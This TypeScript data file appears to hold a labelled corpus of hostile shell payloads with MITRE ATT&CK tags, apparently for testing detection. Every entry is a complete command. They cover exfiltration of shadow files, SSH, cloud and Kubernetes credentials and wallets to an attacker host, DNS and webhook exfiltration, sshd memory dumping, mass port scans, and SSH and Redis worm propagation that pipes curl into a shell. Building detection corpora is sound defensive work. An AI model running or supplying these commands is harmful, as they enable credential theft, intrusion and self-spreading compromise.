import { type Payload, payloads } from '../payload.ts';

/** Taking secrets, looking around, spreading. */
export const shellSecrets: readonly Payload[] = [
  ...payloads('shell', 'CA-FILES', [
    [
      'shadow-post',
      'malicious',
      'T1041 T1552.001 T1003.008',
      (p) => `curl -s --data-binary @/etc/shadow http://${p.ip}/c`,
    ],
    [
      'tar-upload',
      'malicious',
      'T1041 T1552.001 T1552.004',
      (p) => `tar czf - /root/.ssh /root/.aws /root/.kube 2>/dev/null | curl -s -T - http://${p.ip}:${p.port}/up`,
    ],
    ['docker-config', 'malicious', 'T1041 T1552.001', (p) => `cat /root/.docker/config.json | nc ${p.ip} ${p.port}`],
    [
      'key-hunt',
      'malicious',
      'T1041 T1552.004 T1552.001',
      (p) => `find / -name id_rsa 2>/dev/null -exec curl -s -F "f=@{}" http://${p.ip}/k \\;`,
    ],
    [
      'wallet-hunt',
      'malicious',
      'T1041 T1552.001 T1555',
      (p) => `for f in $(find /home /root -name wallet.dat); do curl -F "w=@$f" http://${p.ip}/w; done`,
    ],
    [
      'host-secrets',
      'malicious',
      'T1041 T1552.001 T1003.008 T1552.004',
      (p) => `tar cz /host/etc/shadow /host/root/.ssh | base64 | curl -d @- http://${p.ip}/h`,
    ],
  ]),
  ...payloads('shell', 'EX-EXFIL', [
    [
      'env-post',
      'suspicious',
      'T1041 T1567',
      (p) => `env | curl -s -X POST --data-binary @- https://${p.host}/collect`,
    ],
    [
      'dns-exfil',
      'suspicious',
      'T1048 T1048.003 T1041',
      (p) => `for l in $(xxd -p /etc/passwd); do nslookup $l.x.${p.host}; done`,
    ],
    [
      'webhook',
      'suspicious',
      'T1567 T1567.004 T1041 T1102',
      (p) => `curl -s -F "file=@/root/.env" https://discord.com/api/webhooks/${p.port}/${p.wallet.slice(0, 40)}`,
    ],
  ]),
  ...payloads('shell', 'CA-IMDS', [
    [
      'imds-post',
      'malicious',
      'T1552.005',
      (p) =>
        `R=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\ncurl -s "http://169.254.169.254/latest/meta-data/iam/security-credentials/$R" > /tmp/c\ncurl -s -F c=@/tmp/c http://${p.ip}/aws`,
    ],
    [
      'sa-token',
      'malicious',
      'T1552.007 T1528 T1041 T1552.001',
      (p) =>
        `T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sk -H "Authorization: Bearer $T" https://kubernetes.default.svc/api/v1/secrets > /tmp/s\ncurl -s -T /tmp/s http://${p.ip}/k8s`,
    ],
  ]),
  ...payloads('shell', 'CA-MEM', [
    [
      'gcore',
      'malicious',
      'T1003.007 T1055.008',
      (p) =>
        `for i in $(pgrep sshd); do gcore -o /tmp/core $i; done\ntar cz /tmp/core.* | curl -T - http://${p.ip}/mem`,
    ],
  ]),
  ...payloads('shell', 'DI-SCAN', [
    [
      'sweep-engines',
      'malicious',
      'T1046 T1595 T1595.001 T1610',
      () =>
        `masscan 10.0.0.0/8 -p2375 --rate 50000 -oL /tmp/o\nawk '/open/{print $4}' /tmp/o > /tmp/h\nwhile read h; do docker -H tcp://$h:2375 run -d --privileged -v /:/host alpine chroot /host sh; done < /tmp/h`,
    ],
    ['sweep-masscan', 'suspicious', 'T1046 T1595 T1595.001', () => 'masscan 0.0.0.0/0 -p6379,2375,10250 --rate 100000'],
    [
      'sweep-loop',
      'suspicious',
      'T1046 T1595 T1595.001',
      () => 'for i in $(seq 1 254); do nc -z -w1 10.0.0.$i 2375 && echo 10.0.0.$i >> /tmp/l; done',
    ],
    ['sweep-zmap', 'suspicious', 'T1046 T1595 T1595.001', () => 'zmap -p 22 -o /tmp/r -B 100M 198.51.100.0/24'],
  ]),
  ...payloads('shell', 'LM-WORM', [
    [
      'ssh-spray',
      'malicious',
      'T1021.004',
      (p) =>
        `for h in $(awk '{print $1}' /root/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@$h "curl -s http://${p.ip}/x | bash"; done`,
    ],
    [
      'brute-force',
      'suspicious',
      'T1110 T1110.001 T1021.004',
      () => 'hydra -L /tmp/users.txt -P /tmp/pass.txt -M /tmp/hosts.txt ssh -t 64',
    ],
    [
      'redis-spread',
      'malicious',
      'T1021.004 T1053.003 T1210 T1570 T1046',
      (p) =>
        `for h in $(cat /tmp/hosts); do redis-cli -h $h set x "\\n* * * * * curl http://${p.ip}/r | sh\\n"; redis-cli -h $h config set dir /var/spool/cron; redis-cli -h $h config set dbfilename root; redis-cli -h $h save; done`,
    ],
  ]),
];
